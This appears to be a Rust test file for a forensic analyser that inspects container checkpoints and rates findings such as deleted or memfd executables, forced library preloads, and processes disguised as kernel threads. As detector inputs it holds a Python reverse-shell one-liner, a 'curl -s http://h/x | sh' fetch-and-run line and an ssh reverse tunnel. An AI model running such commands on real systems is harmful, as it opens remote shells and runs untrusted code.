//! Programs, libraries, names and sessions.

use ckpt_analysis::triage::Severity;
use ckpt_synth::{Archive, Container, Dump, File, Member, State, Task, Vma, stories};

use super::*;

const LIBRARY: u64 = 0x7f10_0000_0000;

#[test]
fn deleted_programs() {
    let findings = looked(&Archive::podman(&stories::deleted_exe()));
    let finding = one(&findings, "executable-deleted", 4);
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(path(finding), "/tmp/.sysupd");
    let members: Vec<_> = finding.evidence.iter().filter_map(|seen| seen.member.clone()).collect();
    assert!(members.contains(&"checkpoint/mm-4.img".to_owned()), "{members:?}");
    assert!(members.contains(&"checkpoint/ghost-file-1.img".to_owned()), "{members:?}");

    let plain = found([Task::new(2, 1).exe_deleted("/usr/bin/app", "x")]);
    assert_eq!(one(&plain, "executable-deleted", 2).severity, Severity::High);
    // Anybody can put another file there.
    let app = || Task::new(2, 1).exe_deleted("/usr/bin/app", "x");
    let covered = found_with_diff(app(), &[("usr/bin/app", LATER)]);
    assert_eq!(one(&covered, "executable-deleted", 2).severity, Severity::High);
    none(&covered, "executable-not-from-image");
    // An update: the new file of that name is of a package.
    let mut diff = Archive::new();
    diff.push(Member::file("usr/bin/app", b"\x7fELF").mode(0o755).mtime(LATER))
        .push(Member::file("var/lib/dpkg/status", b"Package: app\n").mtime(LATER))
        .push(Member::file("var/lib/dpkg/info/app.list", b"/.\n/usr/bin/app\n").mtime(LATER));
    let mut archive = Archive::podman(&dump([app()]));
    archive.replace("rootfs-diff.tar", diff.tar());
    let updated = looked(&archive);
    assert_eq!(one(&updated, "executable-deleted", 2).severity, Severity::Medium);
}

/// Times are copied, or come from where the file does; that something was put into the folder stays to be seen.
#[test]
fn programs_with_an_old_time() {
    let severity = |path: &str, folder_time: u64| {
        let (folder, _) = path.rsplit_once('/').expect("a folder");
        let mut diff = Archive::new();
        diff.push(Member::dir(folder).mtime(folder_time))
            .push(Member::file(path, b"\x7fELF").mode(0o755).mtime(BEFORE));
        let task = Task::new(2, 1).exe(format!("/{path}")).argv(&["x"]);
        let mut archive = Archive::podman(&dump([task]));
        archive.replace("rootfs-diff.tar", diff.tar());
        one(&looked(&archive), "executable-not-from-image", 2).severity
    };
    assert_eq!(severity("usr/sbin/x", LATER), Severity::High);
    assert_eq!(severity("opt/app/x", LATER), Severity::High);
    assert_eq!(severity("usr/sbin/x", BEFORE), Severity::Medium);
}

#[test]
fn programs_in_memory() {
    let findings = looked(&Archive::podman(&stories::memfd_exe()));
    let finding = one(&findings, "executable-memfd", 6);
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(path(finding), "/memfd:systemd-journald");
    none(&findings, "executable-deleted");
}

#[test]
fn programs_that_the_image_does_not_have() {
    let task = |path: &str| Task::new(2, 1).exe(path).argv(&[path]);
    let severity = |path: &str, mtime| {
        let member = path.trim_start_matches('/').to_owned();
        let findings = found_with_diff(task(path), &[(member.as_str(), mtime)]);
        one(&findings, "executable-not-from-image", 2).severity
    };
    assert_eq!(severity("/opt/app/tool", LATER), Severity::High);
    assert_eq!(severity("/var/tmp/tool", LATER), Severity::Critical);
    assert_eq!(severity("/usr/share/.fonts/tool", BEFORE), Severity::Critical);
    // Changing the owner copies the file into the diff, with its old time.
    assert_eq!(severity("/opt/app/tool", BEFORE), Severity::Medium);

    let elsewhere = found_with_diff(task("/opt/app/tool"), &[("opt/app/other", LATER)]);
    none(&elsewhere, "executable-not-from-image");
}

#[test]
fn programs_in_odd_places() {
    let hidden = Task::new(2, 1).exe("/srv/www/.sys/d");
    let findings = found([hidden.clone()]);
    assert_eq!(one(&findings, "executable-in-odd-place", 2).severity, Severity::Medium);
    let talks = hidden.fd(5, File::tcp(9, ([10, 0, 0, 1], 40_000), ([192, 0, 2, 7], 443), "", ""));
    let finding = found([talks]);
    let finding = one(&finding, "executable-in-odd-place", 2);
    assert_eq!(finding.severity, Severity::High);
    assert!(finding.evidence.iter().any(|seen| seen.what.contains("192.0.2.7:443")));
    for honest in [
        "/app/.venv/bin/python3",
        "/root/.cargo/bin/tool",
        "/usr/bin/tool",
        "/usr/src/app/.venv/bin/python3",
        "/opt/.meteor/bin/node",
    ] {
        none(&found([Task::new(2, 1).exe(honest)]), "executable-in-odd-place");
    }
}

#[test]
fn scripts_that_the_image_does_not_have() {
    let perl = |script: &str| Task::new(2, 1).exe("/usr/bin/perl").argv(&["perl", script]);
    let findings = found_with_diff(perl("/dev/shm/.b.pl"), &[("dev/shm/.b.pl", LATER)]);
    let finding = one(&findings, "script-not-from-image", 2);
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(path(finding), "/dev/shm/.b.pl");
    none(&found_with_diff(perl("/srv/app.pl"), &[]), "script-not-from-image");
    let shell = |script: &str| Task::new(2, 1).exe("/usr/bin/bash").argv(&["bash", script]);
    let findings = found_with_diff(shell("/tmp/setup.sh"), &[("tmp/setup.sh", LATER)]);
    assert_eq!(one(&findings, "script-not-from-image", 2).severity, Severity::Medium);
    let severity = |argv: &[&str], files: &[(&str, u64)]| {
        let task = Task::new(2, 1).exe(format!("/usr/bin/{}", argv[0])).argv(argv);
        one(&found_with_diff(task, files), "script-not-from-image", 2).severity
    };
    assert_eq!(severity(&["bash", "-e", "/opt/.x/r"], &[("opt/.x/r", LATER)]), Severity::High);
    assert_eq!(
        severity(&["java", "-cp", "/l:/tmp/a.jar", "M"], &[("tmp/a.jar", LATER)]),
        Severity::High
    );
    let node = ["node", "-r", "/tmp/x.js", "/srv/app.js"];
    assert_eq!(severity(&node, &[("tmp/x.js", LATER)]), Severity::High);
}

/// The diff has neither files of file systems in memory nor deleted ones.
#[test]
fn scripts_that_leave_no_file() {
    let calls = File::tcp(9, ([10, 0, 0, 1], 40_000), ([192, 0, 2, 7], 443), "", "");
    let python = |script: &str| Task::new(2, 1).exe("/usr/bin/python3").argv(&["python3", script]);
    let severity = |task| one(&found_with_diff(task, &[]), "script-not-from-image", 2).severity;
    assert_eq!(severity(python("/dev/shm/x.py")), Severity::High);
    assert_eq!(severity(python("/tmp/x.py")), Severity::Low);
    assert_eq!(severity(python("/tmp/x.py").fd(5, calls.clone())), Severity::High);
    let shell = Task::new(2, 1).exe("/usr/bin/bash").argv(&["bash", "/tmp/x.sh"]);
    assert_eq!(severity(shell.fd(0, calls)), Severity::Medium);
    // By the number of a descriptor.
    assert_eq!(
        severity(python("/dev/fd/7").fd(7, File::deleted("/srv/x.py", "x"))),
        Severity::High
    );
    let honest = python("/proc/self/fd/7").fd(7, File::path("/srv/x.py"));
    none(&found_with_diff(honest, &[]), "script-not-from-image");
}

fn preloads(value: &str) -> Task {
    let variable = format!("LD_PRELOAD={value}");
    Task::new(2, 1).exe("/usr/bin/app").env(&["PATH=/usr/bin", &variable])
}

#[test]
fn libraries_that_the_environment_forces() {
    let path_of = "/opt/.k/libx.so";
    let mapped = preloads(path_of).map(Vma::file(LIBRARY, 0x1000, path_of, 0).prot(5));
    let findings = found([mapped]);
    let finding = one(&findings, "preloaded-library", 2);
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(path(finding), path_of);
    assert_eq!(finding.address.map(|at| at.0), Some(LIBRARY));
    // It is told of once.
    none(&findings, "library-not-from-image");

    let loose = found([preloads(path_of)]);
    assert_eq!(one(&loose, "preloaded-library", 2).severity, Severity::High);
    let jemalloc = found([preloads("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")]);
    assert_eq!(one(&jemalloc, "preloaded-library", 2).severity, Severity::Low);
    let agent = Task::new(2, 1)
        .exe("/usr/bin/java")
        .env(&["JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/var/tmp/a.jar=x"]);
    let agent = found([agent]);
    assert_eq!(path(one(&agent, "preloaded-library", 2)), "/var/tmp/a.jar");
    let folder = Task::new(2, 1).env(&["LD_LIBRARY_PATH=/usr/lib:/tmp/lib"]);
    assert_eq!(path(one(&found([folder]), "preloaded-library", 2)), "/tmp/lib");
    none(&found([Task::new(2, 1).env(&["LD_LIBRARY_PATH=/usr/local/lib"])]), "preloaded-library");
    let python = Task::new(2, 1).env(&["PYTHONPATH=/opt/.k"]);
    assert_eq!(one(&found([python]), "preloaded-library", 2).severity, Severity::Medium);
    // The linker looks for names without a folder: what is mapped is what it found.
    let bare =
        preloads("libevil.so").map(Vma::file(LIBRARY, 0x1000, "/usr/lib/libevil.so", 0).prot(5));
    let bare = found_with_diff(bare, &[("usr/lib/libevil.so", LATER)]);
    let finding = one(&bare, "preloaded-library", 2);
    assert_eq!((path(finding), finding.severity), ("/usr/lib/libevil.so", Severity::Critical));
}

/// Shells and interpreters have files at home, and applications say what they load.
#[test]
fn what_interpreters_are_made_to_load() {
    let with = |variable: &str, of_spec: bool, files: &[(&str, u64)]| {
        let task = Task::new(2, 1).exe("/usr/bin/app").env(&[variable]);
        let mut dump = Dump::new();
        let env: &[&str] = if of_spec { &[variable] } else { &[] };
        let container = Container::new("app").command(&["tini", "--", "app"]).env(env);
        dump.container(container.times(CREATED, "2026-11-23T02:00:00Z", LATER)).task(init());
        dump.task(task);
        let mut diff = Archive::new();
        for (path, mtime) in files {
            diff.push(Member::file(*path, b"x").mtime(*mtime));
        }
        let mut archive = Archive::podman(&dump);
        archive.replace("rootfs-diff.tar", diff.tar());
        let findings = looked(&archive);
        findings.into_iter().find(|one| one.rule.id == "preloaded-library").map(|one| one.severity)
    };
    for (variable, of_spec) in [
        ("BASH_ENV=/home/u/.bash_env", false),
        ("BASH_ENV=/opt/.circle/env", true),
        ("NODE_OPTIONS=-r /app/.pnp.cjs", false),
        ("PYTHONSTARTUP=/root/.pythonrc", false),
        ("PYTHONSTARTUP=~/.pythonrc", false),
        ("ENV=production", true),
    ] {
        assert_eq!(with(variable, of_spec, &[]), None, "{variable}");
    }
    let high = Some(Severity::High);
    assert_eq!(with("BASH_ENV=/opt/.circle/env", false, &[]), high);
    assert_eq!(with("BASH_ENV=/root/.bash_env", false, &[("root/.bash_env", LATER)]), high);
    assert_eq!(with("NODE_OPTIONS=--require /tmp/x.js", true, &[]), high);
}

#[test]
fn libraries_that_the_image_does_not_have() {
    let app = || Task::new(2, 1).exe("/usr/bin/app");
    let deleted = |path: &str| {
        app().map(Vma::deleted_file(LIBRARY, 0x1000, path, 0, b"\x7fELF".to_vec()).prot(5))
    };
    let severity = |task| one(&found([task]), "library-not-from-image", 2).severity;
    assert_eq!(severity(deleted("/var/tmp/l.so")), Severity::High);
    assert_eq!(severity(deleted("/srv/l.so")), Severity::High);
    assert_eq!(severity(deleted("/usr/lib/libssl.so.3")), Severity::Medium);
    let hidden = |path: &str, diff: bool| {
        let task = app().map(Vma::file(LIBRARY, 0x1000, path, 0).prot(5));
        let mut archive = Archive::podman(&dump([task]));
        if !diff {
            archive.without("rootfs-diff.tar");
        }
        one(&looked(&archive), "library-not-from-image", 2).severity
    };
    assert_eq!(hidden("/opt/.h/l.so", false), Severity::High);
    // The image has it, as the diff tells.
    assert_eq!(hidden("/opt/.h/l.so", true), Severity::Medium);
    assert_eq!(hidden("/usr/lib/.h/l.so", true), Severity::High);
    for honest in [
        "/app/node_modules/.prisma/client/q.so.node",
        "/usr/src/app/node_modules/.pnpm/a@1/node_modules/a/b.node",
        "/usr/src/app/.venv/lib/python3/a.so",
    ] {
        let task = app().map(Vma::file(LIBRARY, 0x1000, honest, 0).prot(5));
        none(&found([task]), "library-not-from-image");
    }
    let findings = found_with_diff(
        app().map(Vma::file(LIBRARY, 0x1000, "/usr/lib/libpam.so.0", 0).prot(5)),
        &[("usr/lib/libpam.so.0", LATER)],
    );
    let finding = one(&findings, "library-not-from-image", 2);
    assert_eq!((path(finding), finding.severity), ("/usr/lib/libpam.so.0", Severity::Medium));
    // A runtime unpacks native parts of packages and removes them.
    let java = Task::new(2, 1).exe("/usr/lib/jvm/bin/java").map(
        Vma::deleted_file(LIBRARY, 0x1000, "/tmp/libnetty7.so", 0, b"\x7fELF".to_vec()).prot(5),
    );
    assert_eq!(severity(java), Severity::Low);
    none(
        &found([app().map(Vma::file(LIBRARY, 0x1000, "/usr/lib/libc.so.6", 0).prot(5))]),
        "library-not-from-image",
    );
}

#[test]
fn a_library_in_memory_is_an_elf_file() {
    let with = |bytes: &[u8]| {
        let task = Task::new(2, 1)
            .exe("/usr/bin/app")
            .map(Vma::memfd(LIBRARY, 0x1000, "x").prot(1))
            .map(Vma::memfd(LIBRARY + 0x1000, 0x1000, "x").prot(5).offset(0x1000));
        let mut dump = dump([task]);
        dump.memfd("x", 7000, 0x2000, &[(0, bytes)]);
        looked(&Archive::podman(&dump))
    };
    let findings = with(b"\x7fELF\x02\x01\x01");
    assert_eq!(one(&findings, "library-not-from-image", 2).severity, Severity::High);
    // Other code in a memfd is no library.
    let loose = with(b"\x90\x90");
    none(&loose, "library-not-from-image");
    assert_eq!(one(&loose, "anonymous-executable-memory", 2).severity, Severity::Medium);
}

#[test]
fn names_of_kernel_threads() {
    let findings = looked(&Archive::podman(&stories::kworker()));
    let finding = one(&findings, "name-poses-as-kernel-thread", 3);
    assert_eq!(finding.severity, Severity::Critical);
    none(&findings, "name-mismatch");
    let severity = |comm: &str, title: &str| {
        let task =
            Task::new(2, 1).exe("/usr/bin/app").comm(comm).argv(&["app", "--long", "option"]);
        one(&found([task.title(title)]), "name-poses-as-kernel-thread", 2).severity
    };
    assert_eq!(severity("ksoftirqd/0", "[ksoftirqd/0]"), Severity::High);
    assert_eq!(severity("nfsd", "[nfsd]"), Severity::High);
    assert_eq!(severity("app", "[crypto]"), Severity::Medium);
    assert_eq!(severity("kworker/u8:2", "app"), Severity::High);
    // A name of one's own is no excuse where the image has no such program.
    let renamed = Task::new(2, 1).exe("/usr/sbin/kworkerds").comm("kworkerds").argv(&["kworkerds"]);
    let renamed = found_with_diff(renamed, &[("usr/sbin/kworkerds", LATER)]);
    assert_eq!(one(&renamed, "name-poses-as-kernel-thread", 2).severity, Severity::Critical);
    for title in ["[celeryd: worker@host:MainProcess]", "[app]", "app [ready]"] {
        let task = Task::new(2, 1).exe("/usr/bin/app").argv(&["app", "--a-long-option", "another"]);
        none(&found([task.title(title)]), "name-poses-as-kernel-thread");
    }
}

#[test]
fn names_of_other_programs() {
    let task =
        |exe: &str, comm: &str, argv: &[&str]| Task::new(2, 1).exe(exe).comm(comm).argv(argv);
    let severity = |task| one(&found([task]), "name-mismatch", 2).severity;
    assert_eq!(severity(task("/opt/.z/x", "x", &["/usr/sbin/cupsd"])), Severity::High);
    assert_eq!(severity(task("/usr/bin/perl", "perl", &["/usr/sbin/httpd", "-k"])), Severity::High);
    assert_eq!(severity(task("/usr/bin/app", "app", &["sshd: root"])), Severity::High);
    assert_eq!(severity(task("/usr/bin/app", "systemd", &["app"])), Severity::Medium);
    for (exe, comm, argv) in [
        ("/usr/bin/dash", "sh", &["-sh"][..]),
        ("/usr/bin/python3.12", "gunicorn", &["/usr/bin/python3", "/usr/bin/gunicorn"]),
        ("/usr/lib/postgresql/17/bin/postgres", "postgres", &["postgres: walwriter "]),
        ("/usr/bin/redis-check-rdb", "redis-server", &["redis-server 127.0.0.1:6379"]),
        ("/usr/bin/node", "MainThread", &["node", "/srv/app.js"]),
        ("/bin/busybox", "crond", &["crond", "-f"]),
        ("/usr/sbin/sshd", "sshd", &["sshd: /usr/sbin/sshd -D [listener]"]),
        ("/usr/lib/jvm/bin/java", "java", &["java", "-jar", "/a.jar"]),
        ("/usr/bin/vim.basic", "vi", &["vi", "x"]),
        ("/usr/bin/mawk", "awk", &["awk", "{print}"]),
        ("/usr/lib/systemd/systemd", "systemd", &["/sbin/init"]),
        ("/usr/sbin/cron", "cron", &["/usr/sbin/CRON", "-f"]),
    ] {
        none(&found([task(exe, comm, argv)]), "name-mismatch");
    }
}

#[test]
fn where_processes_stand() {
    let gone = Task::new(2, 1).cwd("/srv/work");
    none(&found([gone]), "working-directory-deleted");
    let rooted = found([Task::new(2, 1).root("/mnt/host")]);
    assert_eq!(path(one(&rooted, "root-directory-changed", 2)), "/mnt/host");
    none(&rooted, "process-stopped");
    let stopped = found([Task::new(2, 1).state(State::Stopped)]);
    assert_eq!(one(&stopped, "process-stopped", 2).severity, Severity::Info);
    let reaching = found([Task::new(2, 1).exe("/usr/bin/app").fd(7, File::path("/proc/1/mem"))]);
    assert_eq!(one(&reaching, "process-memory-open", 2).severity, Severity::High);
    none(&found([Task::new(2, 1).fd(7, File::path("/proc/2/mem"))]), "process-memory-open");
    let debugger = |exe: &str| {
        let task = Task::new(2, 1).exe(exe).argv(&["gdb"]).fd(7, File::path("/proc/1/mem"));
        one(&found([task]), "process-memory-open", 2).severity
    };
    assert_eq!(debugger("/usr/bin/gdb"), Severity::Medium);
    assert_eq!(debugger("/opt/.g/gdb"), Severity::High);
    let tracer = found([Task::new(2, 1).exe("/usr/bin/gdb").argv(&["gdb", "-p", "1"])]);
    assert_eq!(one(&tracer, "tracing-tool", 2).severity, Severity::Low);
    let outside = looked(&Archive::podman(&stories::two_roots()));
    assert!(outside.iter().any(|one| one.rule.id == "process-outside-tree"), "{}", told(&outside));
    none(&found([Task::new(2, 1)]), "process-outside-tree");
}

#[test]
fn command_lines() {
    let python =
        |code: &str| Task::new(2, 1).exe("/usr/bin/python3").argv(&["python3", "-c", code]);
    let spawn = "import socket,pty;s=socket.socket();s.connect(('h',1));pty.spawn('sh')";
    let findings = found([python(spawn)]);
    assert_eq!(one(&findings, "suspicious-command", 2).severity, Severity::High);
    none(&found([python("print(1)")]), "suspicious-command");
    let calls = || File::tcp(9, ([10, 0, 0, 1], 40_000), ([192, 0, 2, 7], 443), "", "");
    let talks = python("import x").fd(5, calls());
    assert_eq!(one(&found([talks]), "suspicious-command", 2).severity, Severity::Medium);
    // After curl | python3 - the program is nowhere but in memory.
    let fed = |argv: &[&str]| Task::new(2, 1).exe("/usr/bin/python3").argv(argv).fd(5, calls());
    for argv in [&["python3"][..], &["python3", "-"], &["/usr/bin/python3", "-u"]] {
        let findings = found([fed(argv).fd(0, File::pipe_read(81, ""))]);
        assert_eq!(one(&findings, "suspicious-command", 2).severity, Severity::High, "{argv:?}");
    }
    for argv in [&["python3", "/srv/app.py"][..], &["python3", "-m", "app"], &["gunicorn"]] {
        none(&found([fed(argv)]), "suspicious-command");
    }
    let ssh = |argv: &[&str]| Task::new(2, 1).exe("/usr/bin/ssh").argv(argv).fd(3, calls());
    let tunnel = found([ssh(&["ssh", "-fNR", "8022:localhost:22", "a@h"])]);
    assert_eq!(one(&tunnel, "suspicious-command", 2).severity, Severity::Medium);
    none(&found([ssh(&["ssh", "git@h", "git-upload-pack x"])]), "suspicious-command");
}

/// What an entry point or an init starts is the end of the container's command.
#[test]
fn commands_that_were_asked_for() {
    let line = "curl -s http://h/x | sh";
    let severity = |command: &[&str], argv: &[&str]| {
        let mut dump = Dump::new();
        dump.container(Container::new("app").command(command)).task(init());
        dump.task(Task::new(2, 1).exe("/bin/dash").argv(argv));
        one(&looked(&Archive::podman(&dump)), "suspicious-command", 2).severity
    };
    let shell = ["sh", "-c", line];
    assert_eq!(severity(&shell, &shell), Severity::Medium);
    assert_eq!(severity(&["tini", "--", "sh", "-c", line], &shell), Severity::Medium);
    assert_eq!(severity(&["sh", "-c", "app"], &shell), Severity::High);
}

#[test]
fn programs_of_a_package_weigh_less() {
    let mut diff = Archive::new();
    diff.push(Member::file("usr/bin/tool", b"\x7fELF").mode(0o755).mtime(LATER))
        .push(Member::file("var/lib/dpkg/status", b"Package: tool\n").mtime(LATER))
        .push(Member::file("var/lib/dpkg/info/tool.list", b"/.\n/usr/bin/tool\n").mtime(LATER));
    let mut archive = Archive::podman(&dump([Task::new(2, 1).exe("/usr/bin/tool")]));
    archive.replace("rootfs-diff.tar", diff.tar());
    let findings = looked(&archive);
    assert_eq!(one(&findings, "executable-not-from-image", 2).severity, Severity::Low);
}

#[test]
fn forks_are_told_once() {
    let worker = |pid, ppid| Task::new(pid, ppid).exe("/opt/.w/worker").argv(&["worker"]);
    let forks = |count: u32| {
        let findings = found((2..2 + count).map(|pid| worker(pid, if pid == 2 { 1 } else { 2 })));
        let of = findings.into_iter().filter(|one| one.rule.id == "executable-in-odd-place");
        of.collect::<Vec<_>>()
    };
    assert_eq!(forks(4).len(), 4);
    let folded = forks(30);
    assert_eq!(folded.len(), 1, "{}", told(&folded));
    assert_eq!(folded[0].pid.map(|pid| pid.0), Some(2));
    let last = &folded[0].evidence.last().expect("evidence").what;
    assert!(last.contains("(pid 3)") && last.contains("and 13 more"), "{last}");
    // Children of one process: the first of them tells of the others, and of theirs.
    let started = |count: u32| {
        let children = (2..2 + count).map(|pid| worker(pid, 1));
        let findings = found(children.chain([worker(60, 3)]));
        let of = findings.into_iter().filter(|one| one.rule.id == "executable-in-odd-place");
        of.collect::<Vec<_>>()
    };
    assert_eq!(started(3).len(), 4);
    let folded = started(30);
    assert_eq!(folded.len(), 1, "{}", told(&folded));
    assert_eq!(folded[0].pid.map(|pid| pid.0), Some(2));
    let last = &folded[0].evidence.last().expect("evidence").what;
    assert!(last.contains("(pid 3)") && last.contains("and 14 more"), "{last}");
}
